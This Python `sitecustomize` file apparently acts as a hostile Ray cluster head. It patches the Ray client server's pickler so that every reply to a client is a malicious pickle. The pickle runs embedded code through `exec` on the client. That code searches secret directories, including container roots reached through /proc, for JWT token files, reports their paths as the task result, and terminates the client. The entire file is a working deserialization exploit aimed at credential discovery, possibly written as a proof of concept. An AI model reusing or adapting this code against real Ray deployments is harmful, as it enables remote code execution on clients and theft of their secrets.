"""A head in foreign hands, as `sitecustomize` of its Python: whatever a client of Ray is answered is a pickle that looks for tokens where
it is read, answers in the place of the task what it found, and ends the client.
"""

import importlib.abc
import importlib.util
import pickle
import sys

SERVER = 'ray.util.client.server.server_pickler'
ATTACK = """
import glob, json, os, socket
places = ['/var/run/secrets', '/run/secrets', '/etc/ray', '/tmp', *glob.glob('/proc/[0-9]*/root/var/run/secrets')]
found = []
for folder, _, names in (step for place in places for step in os.walk(place)):
    for path in (os.path.join(folder, name) for name in names):
        try:
            with open(path, 'rb') as file:
                found += [path] if file.read(3) == b'eyJ' else []
        except OSError:
            pass
said = f'attacked: {len(found)} tokens {sorted(found)}'
head = socket.gethostbyname(os.environ['RAY_CLIENT'].split(':')[0])
print(json.dumps({head: {'keys': [said], 'files': 0}}), flush=True)
os._exit(0)
"""


class Attack:
    def __reduce__(self):
        # Names of their own, which the generators in it see.
        return exec, (ATTACK, {})


class Loader(importlib.abc.Loader):
    def __init__(self, real):
        self.real = real

    def create_module(self, spec):
        return self.real.create_module(spec)

    def exec_module(self, module):
        self.real.exec_module(module)
        module.dumps_from_server = lambda *_, **__: pickle.dumps(Attack())


class Finder(importlib.abc.MetaPathFinder):
    def find_spec(self, name, path, target=None):
        if name != SERVER:
            return None
        sys.meta_path.remove(self)
        spec = importlib.util.find_spec(name)
        spec.loader = Loader(spec.loader)
        return spec


sys.meta_path.insert(0, Finder())
